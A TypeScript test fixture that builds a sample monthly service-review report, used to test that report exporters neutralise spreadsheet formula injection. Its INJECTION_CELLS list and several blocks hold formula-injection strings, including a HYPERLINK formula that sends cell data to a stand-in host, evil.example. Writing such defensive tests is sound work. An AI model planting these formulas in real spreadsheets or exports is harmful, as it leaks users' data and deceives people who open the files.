import type { Locale } from '../../shared/i18n/messages';
import { REPORT_DOCUMENT_VERSION, type DocBlock, type DocTable, type ReportDocument } from '../../shared/report/report-document';

/** Text cells a spreadsheet would run as formulas: every exporter must write them inert. */
export const INJECTION_CELLS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-1', '@SUM(A1:A9)', '\tTAB', '\rCR', '=1+2'] as const;

const MONTHS = ['2024-05', '2024-06', '2024-07', '2024-08', '2024-09', '2024-10'] as const;

function volumeTable(locale: Locale): DocTable {
  const values = [4_120, 4_388, 4_502, 4_276, 4_911, 5_230];
  return {
    columns: [
      { label: locale === 'zh-CN' ? '创建月份' : 'Created month', type: 'date' },
      { label: locale === 'zh-CN' ? '工单量' : 'Tickets', type: 'integer', unit: 'count' },
    ],
    rows: MONTHS.map((m, i) => [`${m}-01`, values[i]!]),
    text: MONTHS.map((m, i) => [m, values[i]!.toLocaleString(locale)]),
  };
}

function categoryTable(locale: Locale): DocTable {
  const rows: [string, number, number][] = [
    [locale === 'zh-CN' ? '物流延迟' : 'Late delivery', 1_204, 62.5],
    [locale === 'zh-CN' ? '退款' : 'Refund', 980, 71.25],
    ...INJECTION_CELLS.map((cell, i): [string, number, number] => [cell, 10 + i, 50 + i]),
  ];
  return {
    columns: [
      { label: locale === 'zh-CN' ? '问题类别' : 'Category', type: 'text' },
      { label: locale === 'zh-CN' ? '工单量' : 'Tickets', type: 'integer', unit: 'count' },
      { label: locale === 'zh-CN' ? 'SLA 达成率' : 'SLA attainment', type: 'number', unit: 'percent' },
    ],
    rows,
    text: rows.map(([c, n, p]) => [c, n.toLocaleString(locale), `${p.toFixed(1)} %`]),
  };
}

/**
 * A hand-made report document holding every kind of block, in one language, with formula-like
 * cells in a table, a chart's categories and a text block: what the exporters' tests draw.
 */
export function sampleReportDocument(locale: Locale = 'en'): ReportDocument {
  const zh = locale === 'zh-CN';
  const volume = volumeTable(locale);
  const categories = categoryTable(locale);
  const context = [zh ? '期间：2024年10月1日 – 2024年10月31日' : 'Period: Oct 1, 2024 – Oct 31, 2024', zh ? '筛选：渠道 = 电话' : 'Filters: Channel = Phone'];
  const blocks: DocBlock[] = [
    { id: 'b1', kind: 'title', title: zh ? '月度服务复盘' : 'Monthly service review', subtitle: zh ? '2024年10月 对比 2024年9月' : 'October 2024 vs September 2024', context: [] },
    { id: 'b2', kind: 'heading', title: zh ? '核心指标' : 'Key figures', level: 1, context: [] },
    {
      id: 'b3',
      kind: 'kpis',
      title: zh ? '核心指标' : 'Key figures',
      context,
      cards: [
        { label: zh ? '工单量' : 'Tickets', value: 5_230, valueText: '5,230', unit: 'count', change: { text: '+6.5 %', tone: 'neutral', previousText: '4,911' }, n: 5_230, trend: [4_120, 4_388, 4_502, 4_276, 4_911, 5_230] },
        { label: zh ? 'SLA 达成率' : 'SLA attainment', value: 81.4, valueText: '81.4 %', unit: 'percent', change: { text: '−3.1 pts', tone: 'worse', previousText: '84.5 %' }, n: 5_102, trend: [85, 84.2, 86.1, 84.9, 84.5, 81.4] },
        { label: 'CSAT', value: 4.21, valueText: '4.2', unit: 'score', trend: [4.3, 4.3, 4.2, 4.25, 4.3, 4.21] },
      ],
    },
    {
      id: 'b4',
      kind: 'chart',
      title: zh ? '工单量趋势' : 'Ticket volume',
      context,
      chart: {
        kind: 'line',
        figure: { mark: 'line', data: [{ type: 'scatter', mode: 'lines+markers', x: MONTHS.map((m) => `${m}-01`), y: volume.rows.map((r) => r[1] as number), name: volume.columns[1]!.label }], layout: { xaxis: { type: 'date' } } },
        native: { type: 'line', categories: [...MONTHS], series: [{ name: volume.columns[1]!.label, values: volume.rows.map((r) => r[1] as number) }], numberFormat: '#,##0', valueAxisTitle: volume.columns[1]!.label },
        data: volume,
      },
    },
    {
      id: 'b5',
      kind: 'chart',
      title: zh ? '问题类别' : 'Top categories',
      context,
      chart: {
        kind: 'bar',
        figure: { mark: 'bar', data: [{ type: 'bar', x: categories.rows.map((r) => r[0] as string), y: categories.rows.map((r) => r[1] as number) }], layout: {} },
        native: { type: 'bar', grouping: 'clustered', categories: categories.rows.map((r) => r[0] as string), series: [{ name: categories.columns[1]!.label, values: categories.rows.map((r) => r[1] as number) }], numberFormat: '#,##0' },
        data: categories,
      },
    },
    {
      id: 'b6',
      kind: 'chart',
      title: zh ? '响应时长分布' : 'Response time spread',
      context,
      chart: { kind: 'box', figure: { mark: 'box', data: [{ type: 'box', q1: [10], median: [22], q3: [40], lowerfence: [1], upperfence: [90], x: ['All'] }], layout: {} }, native: null, data: volume },
    },
    { id: 'b7', kind: 'pageBreak', title: '', context: [] },
    {
      id: 'b8',
      kind: 'text',
      title: zh ? '说明' : 'Notes',
      context: [],
      paragraphs: [
        { kind: 'heading', level: 2, runs: [{ text: zh ? '本月要点' : 'This month' }] },
        { kind: 'paragraph', runs: [{ text: zh ? '四川地区满意度' : 'CSAT in ' }, { text: zh ? '明显下降' : 'Sichuan dropped', bold: true }, { text: '.' }] },
        { kind: 'list', ordered: false, items: [[{ text: '=HYPERLINK("http://evil.example")' }], [{ text: zh ? '电话渠道转接率上升' : 'Transfers rose on the phone', italic: true }]] },
      ],
    },
    { id: 'b9', kind: 'table', title: zh ? '类别明细' : 'Categories in detail', context, table: { ...categories, totalRows: 120 } },
    {
      id: 'b10',
      kind: 'board',
      title: zh ? '四川满意度下降' : 'Sichuan CSAT drop',
      context: [],
      problem: [zh ? 'CSAT 从 4.3 降到 3.9' : 'CSAT fell from 4.3 to 3.9'],
      svg: '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200" viewBox="0 0 400 200"><line x1="20" y1="100" x2="360" y2="100" stroke="#333"/><text x="300" y="90" font-size="14">CSAT ↓</text></svg>',
      svgSize: { width: 400, height: 200 },
      whys: {
        columns: [{ label: zh ? '原因' : 'Cause', type: 'text' }, { label: zh ? '为什么' : 'Why', type: 'text' }, { label: zh ? '状态' : 'Status', type: 'text' }],
        rows: [['Staffing', '-New agents', 'root cause']],
        text: [['Staffing', '-New agents', zh ? '根因' : 'root cause']],
      },
    },
    {
      id: 'b11',
      kind: 'explainer',
      title: zh ? '变化解释' : 'Where it moved',
      context,
      summary: [zh ? 'CSAT：4.30 → 3.90（−0.40）' : 'CSAT: 4.30 → 3.90 (−0.40)'],
      chart: {
        kind: 'waterfall',
        figure: { mark: 'waterfall', data: [{ type: 'waterfall', x: ['A', zh ? '四川' : 'Sichuan', zh ? '其他' : 'Rest', 'B'], y: [4.3, -0.32, -0.08, 3.9], measure: ['absolute', 'relative', 'relative', 'total'] }], layout: {} },
        native: null,
        data: { columns: [{ label: zh ? '段' : 'Segment', type: 'text' }, { label: zh ? '影响' : 'Effect', type: 'number' }], rows: [['Sichuan', -0.32], ['Rest', -0.08]], text: [['Sichuan', '−0.32'], ['Rest', '−0.08']] },
      },
      candidates: { columns: [{ label: zh ? '段' : 'Segment', type: 'text' }, { label: zh ? '占比' : 'Share', type: 'number', unit: 'percent' }], rows: [['region = Sichuan', 80]], text: [['region = Sichuan', '80 %']] },
    },
    {
      id: 'b12',
      kind: 'actions',
      title: zh ? '改进措施' : 'Actions',
      context: [],
      table: {
        columns: [{ label: zh ? '措施' : 'Action', type: 'text' }, { label: zh ? '负责人' : 'Owner', type: 'text' }, { label: zh ? '截止' : 'Due', type: 'date' }, { label: zh ? '状态' : 'Status', type: 'text' }],
        rows: [['@SUM(A1:A2) coaching', '王芳', '2024-11-15', 'open']],
        text: [['@SUM(A1:A2) coaching', '王芳', '2024-11-15', zh ? '未开始' : 'Open']],
      },
    },
    { id: 'b13', kind: 'missing', title: zh ? '已删除的图表' : 'A deleted chart', context: [], of: 'chart', message: zh ? '图表 #9 已被删除。' : 'Chart #9 was deleted.' },
  ];
  return {
    version: REPORT_DOCUMENT_VERSION,
    title: zh ? '月度服务复盘' : 'Monthly service review',
    locale,
    page: { size: 'A4', orientation: 'landscape' },
    periodText: zh ? '2024年10月 对比 2024年9月' : 'October 2024 vs September 2024',
    source: 'demo.rootwise',
    generatedAt: '2024-11-02T09:00:00.000Z',
    blocks,
  };
}
